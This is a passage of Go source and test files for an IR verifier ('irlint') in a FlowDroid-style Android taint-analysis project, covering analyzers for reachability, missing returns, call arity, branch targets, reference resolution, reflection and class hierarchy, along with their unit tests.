			if !reach[i] && (i == 0 || reach[i-1]) {
				pass.ReportStmt("unreachable.stmt", Warning, s,
					"unreachable statement: %s", s)
			}
		}
	})
}

// missingReturnAnalyzer reports CFG exit paths of non-void methods that
// return no value: an explicit bare "return", or the implicit return
// Finalize appends when a body falls off its end. The taint flow
// functions map return values to call results; a valueless exit silently
// drops whatever taint the method was meant to propagate.
var missingReturnAnalyzer = &Analyzer{
	Name: "missingreturn",
	Doc:  "exit paths of non-void methods returning no value",
	Run:  runMissingReturn,
}

func runMissingReturn(pass *Pass) {
	eachBodyMethod(pass.Prog, func(c *ir.Class, m *ir.Method) {
		if !m.Return.IsRef() && !m.Return.IsArray() && !m.Return.IsPrim() {
			return // void or unknown return type
		}
		reach := reachable(m)
		for i, s := range m.Body() {
			r, ok := s.(*ir.ReturnStmt)
			if !ok || r.Value != nil || !reach[i] {
				continue
			}
			pass.ReportStmt("missingreturn.exit", Warning, s,
				"exit path of %s returns no value (method declared %s)", m, m.Return)
		}
	})
}
