package irlint

import "flowdroid/internal/ir"

func init() { Register(invokeAnalyzer) }

// invokeAnalyzer checks the structural invariants of invocation
// expressions that every solver's flow functions assume: the declared
// arity matches the actual argument list, virtual and special invokes
// carry a receiver (static invokes do not), and arguments obey the
// three-address form. The parser cannot emit violations, but
// programmatically built or mutated IR can, and the solvers index
// argument lists by the reference's arity.
var invokeAnalyzer = &Analyzer{
	Name: "invoke",
	Doc:  "invocation invariants: arity, receiver presence, simple arguments",
	Run:  runInvoke,
}

func runInvoke(pass *Pass) {
	eachBodyMethod(pass.Prog, func(c *ir.Class, m *ir.Method) {
		for _, s := range m.Body() {
			if inv, ok := s.(*ir.InvokeStmt); ok && inv.Call == nil {
				pass.ReportStmt("invoke.nilcall", Error, s, "invoke statement without a call expression")
				continue
			}
			call := ir.CallOf(s)
			if call == nil {
				continue
			}
			if call.Ref.NArgs != len(call.Args) {
				pass.ReportStmt("invoke.arity", Error, s,
					"call to %s passes %d argument(s) but its reference declares %d",
					call.Ref, len(call.Args), call.Ref.NArgs)
			}
			switch call.Kind {
			case ir.VirtualInvoke, ir.SpecialInvoke:
				if call.Base == nil {
					pass.ReportStmt("invoke.receiver", Error, s,
						"%s invoke of %s has no receiver", call.Kind, call.Ref)
				}
			case ir.StaticInvoke:
				if call.Base != nil {
					pass.ReportStmt("invoke.receiver", Error, s,
						"static invoke of %s has a receiver", call.Ref)
				}
			}
			for i, a := range call.Args {
				if !ir.IsSimple(a) {
					pass.ReportStmt("invoke.operand", Error, s,
						"argument %d of call to %s is not a local or constant (three-address form)",
						i, call.Ref)
				}
			}
		}
	})
}
