package irlint

import "flowdroid/internal/ir"

func init() { Register(branchAnalyzer) }

// branchAnalyzer checks that every resolved branch target index lies
// inside the body. Finalize guarantees this for label-resolved branches,
// but IR built or mutated programmatically can carry an out-of-range
// index — and cfg.New indexes predecessor slices by it, so the defect
// would otherwise surface as a panic inside the first solver to build
// the CFG.
var branchAnalyzer = &Analyzer{
	Name: "branch",
	Doc:  "branch target indices in range",
	Run:  runBranch,
}

func runBranch(pass *Pass) {
	eachBodyMethod(pass.Prog, func(c *ir.Class, m *ir.Method) {
		body := m.Body()
		check := func(s ir.Stmt, target int, label string) {
			if target < 0 || target >= len(body) {
				pass.ReportStmt("branch.range", Error, s,
					"branch target %q resolves to index %d, outside the body [0,%d)",
					label, target, len(body))
			}
		}
		for _, s := range body {
			switch s := s.(type) {
			case *ir.IfStmt:
				check(s, s.TargetIndex, s.Target)
			case *ir.GotoStmt:
				check(s, s.TargetIndex, s.Target)
			}
		}
	})
}
