package irlint_test

// Fixture-cleanliness regression test: every program the repository
// ships must verify with zero Error diagnostics, so the verifier can
// be turned on in any pipeline without aborting known-good analyses.
// This mirrors `irlint -fixtures` (cmd/irlint), which CI runs over the
// same set.

import (
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/appgen"
	"flowdroid/internal/droidbench"
	"flowdroid/internal/insecurebank"
	"flowdroid/internal/irlint"
	"flowdroid/internal/securibench"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/testapps"
)

func TestShippedFixturesAreErrorClean(t *testing.T) {
	lintApp := func(name string, files map[string]string) {
		t.Run(name, func(t *testing.T) {
			app, err := apk.LoadFiles(files)
			if err != nil {
				t.Fatal(err)
			}
			handlers := make(map[string][]string)
			for lname, l := range app.Layouts {
				if hs := l.ClickHandlers(); len(hs) > 0 {
					handlers[lname] = hs
				}
			}
			res := irlint.Run(app.Program, irlint.Config{ClickHandlers: handlers})
			reportErrors(t, res)
		})
	}

	lintApp("testapps/LeakageApp", testapps.LeakageApp)
	lintApp("testapps/LocationApp", testapps.LocationApp)
	lintApp("insecurebank", insecurebank.Files)
	for _, c := range droidbench.Cases() {
		lintApp("droidbench/"+c.Name, c.Files)
	}
	for _, c := range securibench.Cases() {
		c := c
		t.Run("securibench/"+c.Name, func(t *testing.T) {
			prog, err := securibench.Program(c)
			if err != nil {
				t.Fatal(err)
			}
			mgr, err := sourcesink.Parse(prog, securibench.Rules())
			if err != nil {
				t.Fatal(err)
			}
			res := irlint.Run(prog, irlint.Config{Sources: mgr.Sources(), Sinks: mgr.Sinks()})
			reportErrors(t, res)
		})
	}
	for _, p := range []struct {
		name    string
		profile appgen.Profile
	}{{"play", appgen.Play}, {"malware", appgen.Malware}, {"stress", appgen.Stress}} {
		for _, app := range appgen.GenerateCorpus(p.profile, 3, 1) {
			lintApp("appgen/"+p.name+"/"+app.Name, app.Files)
		}
	}
}

func reportErrors(t *testing.T, res *irlint.Result) {
	t.Helper()
	if !res.HasErrors() {
		return
	}
	for _, d := range res.Diagnostics {
		if d.Severity == irlint.Error {
			t.Errorf("fixture has lint error: %s", d)
		}
	}
}
