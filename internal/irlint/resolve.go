package irlint

import "flowdroid/internal/ir"

func init() { Register(resolveAnalyzer) }

// resolveAnalyzer reports references to classes, methods and fields the
// hierarchy cannot resolve. These are Warnings, not Errors: the analyses
// deliberately tolerate unknown references by treating them as opaque
// library calls (a taint-wrapper may still model them), but an
// unresolvable name in app code is usually a typo or a missing stub —
// and a call graph silently missing those edges is exactly the
// mis-analysis this verifier exists to surface.
var resolveAnalyzer = &Analyzer{
	Name: "resolve",
	Doc:  "unresolvable class, method and field references",
	Run:  runResolve,
}

func runResolve(pass *Pass) {
	h := pass.Prog
	eachBodyMethod(h, func(c *ir.Class, m *ir.Method) {
		for _, s := range m.Body() {
			if call := ir.CallOf(s); call != nil {
				cls, callee := calleeOf(h, call)
				switch {
				case cls == "":
					// Receiver type unknown — inference gave up; nothing to
					// resolve against.
				case h.Class(cls) == nil:
					pass.ReportStmt("resolve.class", Warning, s,
						"call references unknown class %s", cls)
				case callee == nil:
					pass.ReportStmt("resolve.method", Warning, s,
						"unresolvable method %s.%s/%d", cls, call.Ref.Name, call.Ref.NArgs)
				}
			}
			if a, ok := s.(*ir.AssignStmt); ok {
				checkValueRefs(pass, s, a.LHS)
				checkValueRefs(pass, s, a.RHS)
			}
		}
	})
}

// checkValueRefs reports unknown classes in allocations and casts, and
// unresolvable field references (normally Program.Link rejects those,
// so these fire only on IR mutated after linking).
func checkValueRefs(pass *Pass, s ir.Stmt, v ir.Value) {
	h := pass.Prog
	unknownClass := func(t ir.Type) {
		if t.IsRef() && h.Class(t.Name) == nil {
			pass.ReportStmt("resolve.class", Warning, s, "reference to unknown class %s", t.Name)
		}
	}
	switch v := v.(type) {
	case *ir.New:
		unknownClass(v.Type)
	case *ir.Cast:
		unknownClass(v.To)
	case *ir.FieldRef:
		if v.Field != nil || v.Base == nil || !v.Base.Type.IsRef() {
			return
		}
		if h.Class(v.Base.Type.Name) != nil && h.ResolveField(v.Base.Type.Name, v.Name) == nil {
			pass.ReportStmt("resolve.field", Warning, s,
				"unresolvable field %s.%s", v.Base.Type.Name, v.Name)
		}
	case *ir.StaticFieldRef:
		if v.Field != nil {
			return
		}
		if h.Class(v.Class) == nil {
			pass.ReportStmt("resolve.class", Warning, s, "reference to unknown class %s", v.Class)
		} else if h.ResolveField(v.Class, v.Name) == nil {
			pass.ReportStmt("resolve.field", Warning, s, "unresolvable field %s.%s", v.Class, v.Name)
		}
	}
}
