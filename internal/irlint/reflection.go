package irlint

import (
	"context"

	"flowdroid/internal/constprop"
)

func init() { Register(reflectionAnalyzer) }

// reflectionAnalyzer runs the interprocedural constant-string propagation
// pass (internal/constprop) and warns at every reflective call site it
// must leave opaque: a Class.forName whose argument is not a bounded
// constant set, a constant name naming no class in the program, or a
// ClassLoader.loadClass that can pull in code the analysis never sees.
// Each such site is a hole in the call graph — the taint report cannot
// make claims about flows through it — so the verifier surfaces them
// where the developer can replace the dynamic name with a constant or
// accept the documented blind spot.
var reflectionAnalyzer = &Analyzer{
	Name: "reflection",
	Doc:  "reflective call sites the constant-string analysis cannot resolve",
	Run:  runReflection,
}

func runReflection(pass *Pass) {
	res := constprop.Analyze(context.Background(), pass.Prog)
	if res.Truncated {
		return
	}
	for _, site := range res.Sites {
		u := site.Unresolved
		if u == nil {
			continue
		}
		pass.ReportStmt("reflection.unresolved", Warning, site.Stmt,
			"%s call cannot be resolved (%s); flows through it are invisible to the analysis",
			u.Call, u.Reason)
	}
}
