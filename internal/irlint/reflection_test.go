package irlint_test

// Tests for the reflection analyzer: an opaque reflective site warns
// with its reason, and a fully constant-resolvable chain stays clean.

import (
	"strings"
	"testing"

	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
)

// parseWithFramework links the source against the framework stubs so
// receiver types of Class/Method locals are inferred, which the
// reflective-API classification depends on.
func parseWithFramework(t *testing.T, src string) *ir.Program {
	t.Helper()
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, src, "test.ir"); err != nil {
		t.Fatal(err)
	}
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	return prog
}

func TestReflectionUnresolvedWarns(t *testing.T) {
	prog := parseWithFramework(t, `
class app.Main {
  method run(name: java.lang.String): void {
    clz = java.lang.Class.forName(name)
    return
  }
}
`)
	res := lint(t, prog, "reflection")
	d := wantDiag(t, res, "reflection.unresolved", 4)
	if !strings.Contains(d.Message, "non-constant string") {
		t.Errorf("message lacks reason: %q", d.Message)
	}
}

func TestReflectionDynamicLoadingWarns(t *testing.T) {
	prog := parseWithFramework(t, `
class app.Main {
  method run(ldr: java.lang.ClassLoader): void {
    clz = ldr.loadClass("app.Plugin")
    return
  }
}
`)
	res := lint(t, prog, "reflection")
	d := wantDiag(t, res, "reflection.unresolved", 4)
	if !strings.Contains(d.Message, "dynamic loading") {
		t.Errorf("message lacks reason: %q", d.Message)
	}
}

func TestReflectionResolvedStaysClean(t *testing.T) {
	prog := parseWithFramework(t, `
class app.Target {
  method leak(s: java.lang.String): void {
    return
  }
}

class app.Main {
  method run(s: java.lang.String): void {
    clz = java.lang.Class.forName("app.Target")
    obj = clz.newInstance()
    mth = clz.getMethod("leak")
    r = mth.invoke(obj, s)
    return
  }
}
`)
	wantClean(t, lint(t, prog, "reflection"))
}
