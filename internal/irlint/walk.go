package irlint

import "flowdroid/internal/ir"

// eachBodyMethod calls fn for every method with a body, classes and
// methods in deterministic order.
func eachBodyMethod(h ir.Hierarchy, fn func(*ir.Class, *ir.Method)) {
	for _, c := range h.Classes() {
		for _, m := range c.Methods() {
			if !m.Abstract() {
				fn(c, m)
			}
		}
	}
}

// valueUses calls add for every local read when v is evaluated. For
// lvalues it reports the base (storing through base.f or base[i] reads
// base), never the assigned local itself.
func valueUses(v ir.Value, add func(*ir.Local)) {
	switch v := v.(type) {
	case *ir.Local:
		add(v)
	case *ir.FieldRef:
		if v.Base != nil {
			add(v.Base)
		}
	case *ir.ArrayRef:
		if v.Base != nil {
			add(v.Base)
		}
		if v.Index != nil {
			valueUses(v.Index, add)
		}
	case *ir.Binop:
		valueUses(v.L, add)
		valueUses(v.R, add)
	case *ir.Cast:
		valueUses(v.X, add)
	case *ir.NewArray:
		if v.Len != nil {
			valueUses(v.Len, add)
		}
	case *ir.InvokeExpr:
		if v.Base != nil {
			add(v.Base)
		}
		for _, a := range v.Args {
			valueUses(a, add)
		}
	}
}

// stmtUses calls add for every local the statement reads.
func stmtUses(s ir.Stmt, add func(*ir.Local)) {
	switch s := s.(type) {
	case *ir.AssignStmt:
		valueUses(s.RHS, add)
		// A store through a field or array lvalue reads its base; only a
		// plain local LHS is a pure definition.
		if _, isLocal := s.LHS.(*ir.Local); !isLocal {
			valueUses(s.LHS, add)
		}
	case *ir.InvokeStmt:
		if s.Call != nil {
			valueUses(s.Call, add)
		}
	case *ir.ReturnStmt:
		if s.Value != nil {
			valueUses(s.Value, add)
		}
	}
}

// stmtDef returns the local the statement assigns, or nil.
func stmtDef(s ir.Stmt) *ir.Local {
	if a, ok := s.(*ir.AssignStmt); ok {
		if l, ok := a.LHS.(*ir.Local); ok {
			return l
		}
	}
	return nil
}

// stmtLocals calls add for every local the statement mentions (uses and
// definitions, including lvalue bases).
func stmtLocals(s ir.Stmt, add func(*ir.Local)) {
	stmtUses(s, add)
	if l := stmtDef(s); l != nil {
		add(l)
	}
}

// reachable returns, per body index, whether the statement is reachable
// from the method entry along CFG edges.
func reachable(m *ir.Method) []bool {
	body := m.Body()
	seen := make([]bool, len(body))
	if len(body) == 0 {
		return seen
	}
	work := []int{0}
	seen[0] = true
	for len(work) > 0 {
		i := work[len(work)-1]
		work = work[:len(work)-1]
		for _, t := range succIdx(body, i) {
			if t >= 0 && t < len(body) && !seen[t] {
				seen[t] = true
				work = append(work, t)
			}
		}
	}
	return seen
}

// succIdx mirrors cfg.New's edge rules on raw indices, tolerating
// out-of-range branch targets (which the branch analyzer reports) by
// simply dropping them.
func succIdx(body []ir.Stmt, i int) []int {
	switch s := body[i].(type) {
	case *ir.GotoStmt:
		return []int{s.TargetIndex}
	case *ir.IfStmt:
		if s.TargetIndex == i+1 {
			return []int{i + 1}
		}
		return []int{i + 1, s.TargetIndex}
	case *ir.ReturnStmt:
		return nil
	default:
		return []int{i + 1}
	}
}
