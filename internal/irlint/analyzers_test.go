package irlint_test

// Per-analyzer tests: each analyzer gets a positive test (an injected
// defect is reported with its code and file:line position) and a
// negative test (clean code yields nothing). Defects the parser can
// express are written as IR text; defects the parser refuses (bad
// branch targets, arity mismatches, foreign locals) are built by
// mutating parsed IR, which is exactly how they arise in practice.

import (
	"strings"
	"testing"

	"flowdroid/internal/ir"
	"flowdroid/internal/irlint"
	"flowdroid/internal/irtext"
	"flowdroid/internal/sourcesink"
)

func parse(t *testing.T, src string) *ir.Program {
	t.Helper()
	prog, err := irtext.ParseProgram(src, "test.ir")
	if err != nil {
		t.Fatal(err)
	}
	return prog
}

// lint runs a single analyzer over the program.
func lint(t *testing.T, h ir.Hierarchy, analyzer string) *irlint.Result {
	t.Helper()
	a := irlint.Lookup(analyzer)
	if a == nil {
		t.Fatalf("analyzer %s not registered", analyzer)
	}
	return irlint.Run(h, irlint.Config{Analyzers: []*irlint.Analyzer{a}})
}

// wantDiag asserts exactly one diagnostic with the code, positioned at
// test.ir:line (line 0 skips the position check), and returns it.
func wantDiag(t *testing.T, res *irlint.Result, code string, line int) irlint.Diagnostic {
	t.Helper()
	hits := res.ByCode(code)
	if len(hits) != 1 {
		t.Fatalf("got %d %s diagnostics, want 1: %v", len(hits), code, res.Diagnostics)
	}
	d := hits[0]
	if line > 0 && (d.File != "test.ir" || d.Line != line) {
		t.Errorf("%s at %s, want test.ir:%d", code, d.Pos(), line)
	}
	return d
}

func wantClean(t *testing.T, res *irlint.Result) {
	t.Helper()
	if len(res.Diagnostics) != 0 {
		t.Errorf("clean program produced diagnostics: %v", res.Diagnostics)
	}
}

// ---------------------------------------------------------------- defuse

func TestDefuseUndefined(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    x = y\n    return\n  }\n}")
	d := wantDiag(t, lint(t, prog, "defuse"), "defuse.undef", 3)
	if d.Severity != irlint.Error {
		t.Error("defuse.undef must be Error severity")
	}
	if !strings.Contains(d.Message, `"y"`) || d.Method != "A.m/0" {
		t.Errorf("diagnostic lacks context: %v", d)
	}
}

func TestDefuseSelfUseBeforeDef(t *testing.T) {
	// x = x + 1 checks the use against the state BEFORE the statement.
	prog := parse(t, "class A {\n  method m(): void {\n    x = x + 1\n    return\n  }\n}")
	wantDiag(t, lint(t, prog, "defuse"), "defuse.undef", 3)
}

func TestDefuseMaybeUnassigned(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    if * goto skip\n    x = 1\n  skip:\n    y = x\n    return\n  }\n}")
	res := lint(t, prog, "defuse")
	d := wantDiag(t, res, "defuse.maybe", 6)
	if d.Severity != irlint.Warning {
		t.Error("defuse.maybe must be Warning severity")
	}
	if len(res.ByCode("defuse.undef")) != 0 {
		t.Error("assigned-on-some-path local flagged as definitely undefined")
	}
}

func TestDefuseClean(t *testing.T) {
	// Parameters, declarations, the receiver and loop-carried locals are
	// all defined; a loop back edge must not re-flag the entry state.
	prog := parse(t, `class A {
  field f: int
  method m(p: int): void {
    local d: A
    i = p
  loop:
    i = i + 1
    if * goto loop
    this.f = i
    return
  }
}`)
	wantClean(t, lint(t, prog, "defuse"))
}

// ------------------------------------------------------------- typecheck

func TestTypecheckAssign(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    local x: int\n    x = \"oops\"\n    return\n  }\n}")
	d := wantDiag(t, lint(t, prog, "typecheck"), "typecheck.assign", 4)
	if d.Severity != irlint.Warning {
		t.Error("typecheck diagnostics must be Warning severity")
	}
}

func TestTypecheckReturn(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): java.lang.String {\n    x = 1\n    return x\n  }\n}")
	wantDiag(t, lint(t, prog, "typecheck"), "typecheck.return", 4)

	void := parse(t, "class A {\n  method m(): void {\n    x = 1\n    return x\n  }\n}")
	wantDiag(t, lint(t, void, "typecheck"), "typecheck.return", 4)
}

func TestTypecheckArg(t *testing.T) {
	prog := parse(t, "class B {\n  static method f(s: java.lang.String): void { return }\n}\nclass A {\n  method m(): void {\n    x = 1\n    B.f(x)\n    return\n  }\n}")
	wantDiag(t, lint(t, prog, "typecheck"), "typecheck.arg", 7)
}

func TestTypecheckClean(t *testing.T) {
	prog := parse(t, `class B extends A {
}
class A {
  method mk(): B {
    b = new B()
    return b
  }
  method m(o: java.lang.Object, n: int): java.lang.Object {
    local a: A
    a = this.mk()
    s = "str"
    o = s
    o = n
    return o
  }
}`)
	wantClean(t, lint(t, prog, "typecheck"))
}

// ---------------------------------------------------------------- invoke

// parseCall returns a parsed method whose first statement is a virtual
// invocation, plus the call expression, ready for mutation.
func parseCall(t *testing.T) (*ir.Program, *ir.InvokeExpr) {
	t.Helper()
	prog := parse(t, "class A {\n  method m(): void {\n    this.n()\n    return\n  }\n  method n(): void { return }\n}")
	s := prog.Class("A").Method("m", 0).Body()[0].(*ir.InvokeStmt)
	return prog, s.Call
}

func TestInvokeArity(t *testing.T) {
	prog, call := parseCall(t)
	call.Ref.NArgs = 3
	d := wantDiag(t, lint(t, prog, "invoke"), "invoke.arity", 3)
	if d.Severity != irlint.Error {
		t.Error("invoke.arity must be Error severity")
	}
}

func TestInvokeMissingReceiver(t *testing.T) {
	prog, call := parseCall(t)
	call.Base = nil
	wantDiag(t, lint(t, prog, "invoke"), "invoke.receiver", 3)
}

func TestInvokeStaticWithReceiver(t *testing.T) {
	prog, call := parseCall(t)
	call.Kind = ir.StaticInvoke
	wantDiag(t, lint(t, prog, "invoke"), "invoke.receiver", 3)
}

func TestInvokeNonSimpleArgument(t *testing.T) {
	prog, call := parseCall(t)
	call.Ref.NArgs = 1
	call.Args = []ir.Value{&ir.Binop{Op: "+", L: ir.IntOf(1), R: ir.IntOf(2)}}
	wantDiag(t, lint(t, prog, "invoke"), "invoke.operand", 3)
}

func TestInvokeNilCall(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    this.n()\n    return\n  }\n  method n(): void { return }\n}")
	prog.Class("A").Method("m", 0).Body()[0].(*ir.InvokeStmt).Call = nil
	wantDiag(t, lint(t, prog, "invoke"), "invoke.nilcall", 3)
}

func TestInvokeClean(t *testing.T) {
	prog, _ := parseCall(t)
	wantClean(t, lint(t, prog, "invoke"))
}

// ---------------------------------------------------------------- resolve

func TestResolveUnknownClass(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    y = com.missing.Widget.make()\n    return\n  }\n}")
	wantDiag(t, lint(t, prog, "resolve"), "resolve.class", 3)
}

func TestResolveUnknownMethod(t *testing.T) {
	prog := parse(t, "class B {\n  method real(): void { return }\n}\nclass A {\n  method m(b: B): void {\n    b.ghost()\n    return\n  }\n}")
	wantDiag(t, lint(t, prog, "resolve"), "resolve.method", 6)
}

func TestResolveUnknownField(t *testing.T) {
	prog := parse(t, "class B {\n  field real: int\n}\nclass A {\n  method m(b: B): void {\n    x = b.real\n    return\n  }\n}")
	// Unlink the parsed field reference and point it at a name no class
	// declares — the post-Link mutation shape this check exists for.
	a := prog.Class("A").Method("m", 1).Body()[0].(*ir.AssignStmt)
	fr := a.RHS.(*ir.FieldRef)
	fr.Field, fr.Name = nil, "ghost"
	wantDiag(t, lint(t, prog, "resolve"), "resolve.field", 6)
}

func TestResolveClean(t *testing.T) {
	prog := parse(t, "class B {\n  field real: int\n  method real2(): void { return }\n}\nclass A {\n  method m(b: B): void {\n    x = b.real\n    b.real2()\n    return\n  }\n}")
	wantClean(t, lint(t, prog, "resolve"))
}

// ----------------------------------------------------------------- branch

func TestBranchTargetOutOfRange(t *testing.T) {
	mk := func() (*ir.Program, *ir.IfStmt) {
		prog := parse(t, "class A {\n  method m(): void {\n    if * goto done\n    x = 1\n  done:\n    return\n  }\n}")
		return prog, prog.Class("A").Method("m", 0).Body()[0].(*ir.IfStmt)
	}
	prog, ifs := mk()
	ifs.TargetIndex = -2
	d := wantDiag(t, lint(t, prog, "branch"), "branch.range", 3)
	if d.Severity != irlint.Error {
		t.Error("branch.range must be Error severity")
	}
	prog, ifs = mk()
	ifs.TargetIndex = 99
	wantDiag(t, lint(t, prog, "branch"), "branch.range", 3)
	prog, _ = mk()
	wantClean(t, lint(t, prog, "branch"))
}

// ------------------------------------------------------------ unreachable

func TestUnreachable(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    return\n    x = 1\n    y = 2\n  }\n}")
	// Only the first statement of the dead region is reported.
	wantDiag(t, lint(t, prog, "unreachable"), "unreachable.stmt", 4)
}

func TestUnreachableClean(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    if * goto done\n    x = 1\n  done:\n    return\n  }\n}")
	wantClean(t, lint(t, prog, "unreachable"))
}

// ---------------------------------------------------------- missingreturn

func TestMissingReturn(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): java.lang.String {\n    return\n  }\n}")
	wantDiag(t, lint(t, prog, "missingreturn"), "missingreturn.exit", 3)
}

func TestMissingReturnClean(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): java.lang.String {\n    s = \"v\"\n    return s\n  }\n  method v(): void {\n    return\n  }\n}")
	wantClean(t, lint(t, prog, "missingreturn"))
}

// ------------------------------------------------------------- duplicates

func TestDuplicatesForeignSignature(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    return\n  }\n}")
	prog.Class("A").Method("m", 0).Class = ir.NewClass("Elsewhere", "")
	d := wantDiag(t, lint(t, prog, "duplicates"), "duplicates.signature", 0)
	if d.Severity != irlint.Error {
		t.Error("duplicates.signature must be Error severity")
	}
}

func TestDuplicatesParam(t *testing.T) {
	prog := parse(t, "class A {\n  method m(p: int): void {\n    return\n  }\n}")
	m := prog.Class("A").Method("m", 1)
	m.Params = append(m.Params, m.Params[0])
	res := lint(t, prog, "duplicates")
	if len(res.ByCode("duplicates.param")) == 0 {
		t.Errorf("duplicate parameter not reported: %v", res.Diagnostics)
	}
}

func TestDuplicatesForeignLocal(t *testing.T) {
	prog := parse(t, "class A {\n  method m(): void {\n    x = 1\n    return\n  }\n}")
	a := prog.Class("A").Method("m", 0).Body()[0].(*ir.AssignStmt)
	a.LHS = &ir.Local{Name: "zz"}
	wantDiag(t, lint(t, prog, "duplicates"), "duplicates.local", 3)
}

func TestDuplicatesClean(t *testing.T) {
	prog := parse(t, "class A {\n  method m(p: int, q: int): void {\n    x = p\n    y = q\n    return\n  }\n}")
	wantClean(t, lint(t, prog, "duplicates"))
}

// -------------------------------------------------------------- hierarchy

func TestHierarchyMissingSuper(t *testing.T) {
	prog := parse(t, "class A extends com.missing.Base {\n}")
	wantDiag(t, lint(t, prog, "hierarchy"), "hierarchy.super", 1)
}

func TestHierarchyMissingInterface(t *testing.T) {
	prog := parse(t, "class A implements com.missing.Iface {\n}")
	wantDiag(t, lint(t, prog, "hierarchy"), "hierarchy.iface", 1)
}

func TestHierarchyKindConfusion(t *testing.T) {
	prog := parse(t, "interface I {\n}\nclass A {\n}\nclass B implements A {\n}")
	// Implementing a non-interface is kind confusion; so is extending an
	// interface (built by mutation — the parser maps extends to Super).
	prog.Class("A").Super = "I"
	res := lint(t, prog, "hierarchy")
	if got := len(res.ByCode("hierarchy.kind")); got != 2 {
		t.Errorf("got %d hierarchy.kind diagnostics, want 2: %v", got, res.Diagnostics)
	}
}

func TestHierarchyCycle(t *testing.T) {
	prog := parse(t, "class A extends B {\n}\nclass B extends A {\n}")
	d := wantDiag(t, lint(t, prog, "hierarchy"), "hierarchy.cycle", 0)
	if d.Severity != irlint.Error {
		t.Error("hierarchy.cycle must be Error severity")
	}
	if !strings.Contains(d.Message, "A -> B -> A") {
		t.Errorf("cycle not rotated to smallest-first: %q", d.Message)
	}
}

func TestHierarchyClean(t *testing.T) {
	prog := parse(t, "interface I {\n}\nclass A implements I {\n}\nclass B extends A {\n}")
	wantClean(t, lint(t, prog, "hierarchy"))
}

// ---------------------------------------------------------- registrations

func TestRegistrations(t *testing.T) {
	prog := parse(t, "class A {\n  method src(): java.lang.String {\n    s = \"v\"\n    return s\n  }\n  method onTap(v: java.lang.Object): void {\n    return\n  }\n}")
	conf := irlint.Config{
		Analyzers: []*irlint.Analyzer{irlint.Lookup("registrations")},
		Sources: []sourcesink.Source{
			{Class: "com.missing.Src", Name: "get", NArgs: 0},
			{Class: "A", Name: "ghost", NArgs: 0},
			{Class: "A", Name: "src", NArgs: 0}, // resolvable: no finding
		},
		Sinks: []sourcesink.Sink{
			{Class: "com.missing.Dst", Name: "put", NArgs: 1},
		},
		ClickHandlers: map[string][]string{
			"res/layout/a.xml": {"noSuchHandler", "onTap"},
		},
	}
	res := irlint.Run(prog, conf)
	if got := len(res.ByCode("registrations.source")); got != 2 {
		t.Errorf("got %d registrations.source, want 2: %v", got, res.Diagnostics)
	}
	if got := len(res.ByCode("registrations.sink")); got != 1 {
		t.Errorf("got %d registrations.sink, want 1: %v", got, res.Diagnostics)
	}
	clicks := res.ByCode("registrations.onclick")
	if len(clicks) != 1 {
		t.Fatalf("got %d registrations.onclick, want 1: %v", len(clicks), res.Diagnostics)
	}
	if clicks[0].File != "res/layout/a.xml" {
		t.Errorf("onclick diagnostic positioned at %q, want the layout path", clicks[0].File)
	}
	for _, d := range res.ByCode("registrations.source") {
		if d.File != irlint.RulesFile {
			t.Errorf("rule diagnostic positioned at %q, want %q", d.File, irlint.RulesFile)
		}
	}
}

func TestRegistrationsClean(t *testing.T) {
	prog := parse(t, "class A {\n  method src(): java.lang.String {\n    s = \"v\"\n    return s\n  }\n  method onTap(v: java.lang.Object): void {\n    return\n  }\n}")
	conf := irlint.Config{
		Analyzers:     []*irlint.Analyzer{irlint.Lookup("registrations")},
		Sources:       []sourcesink.Source{{Class: "A", Name: "src", NArgs: 0}},
		ClickHandlers: map[string][]string{"res/layout/a.xml": {"onTap"}},
	}
	wantClean(t, irlint.Run(prog, conf))
}

func TestRegistrationsQueriedSinkUnmatched(t *testing.T) {
	prog := parse(t, "class A {\n  method run(): void {\n    android.util.Log.i(\"t\", \"v\")\n    return\n  }\n}")
	conf := irlint.Config{
		Analyzers: []*irlint.Analyzer{irlint.Lookup("registrations")},
		QueriedSinks: []sourcesink.Sink{
			{Label: "log", Class: "android.util.Log", Name: "i", NArgs: 2}, // matched: no finding
			{Label: "sms", Class: "android.telephony.SmsManager", Name: "sendTextMessage", NArgs: 5},
		},
	}
	res := irlint.Run(prog, conf)
	d := wantDiag(t, res, "registrations.sink.unmatched", 0)
	if d.File != irlint.RulesFile {
		t.Errorf("diagnostic positioned at %q, want %q", d.File, irlint.RulesFile)
	}
	if !strings.Contains(d.Message, "sendTextMessage") {
		t.Errorf("message %q does not name the unmatched rule", d.Message)
	}
	if d.Severity != irlint.Warning {
		t.Errorf("severity %v, want Warning (an empty query is suspicious, not fatal)", d.Severity)
	}
}

func TestRegistrationsQueriedSinksAllMatchedIsClean(t *testing.T) {
	prog := parse(t, "class A {\n  method run(): void {\n    android.util.Log.i(\"t\", \"v\")\n    return\n  }\n}")
	conf := irlint.Config{
		Analyzers:    []*irlint.Analyzer{irlint.Lookup("registrations")},
		QueriedSinks: []sourcesink.Sink{{Label: "log", Class: "android.util.Log", Name: "i", NArgs: 2}},
	}
	wantClean(t, irlint.Run(prog, conf))
}
