package irlint

import (
	"sort"
	"strings"

	"flowdroid/internal/ir"
)

func init() { Register(hierarchyAnalyzer) }

// hierarchyAnalyzer surfaces class-hierarchy defects that the scene layer
// otherwise papers over silently: supers and interfaces that resolve to
// nothing (Warning — the class is treated as a hierarchy root, losing
// dispatch edges), extends/implements kind confusion (Warning), and
// inheritance cycles (Error — resolution and subtype walks are only
// cycle-tolerant by defensive coding; a cyclic hierarchy is meaningless
// and nothing downstream should trust it).
var hierarchyAnalyzer = &Analyzer{
	Name: "hierarchy",
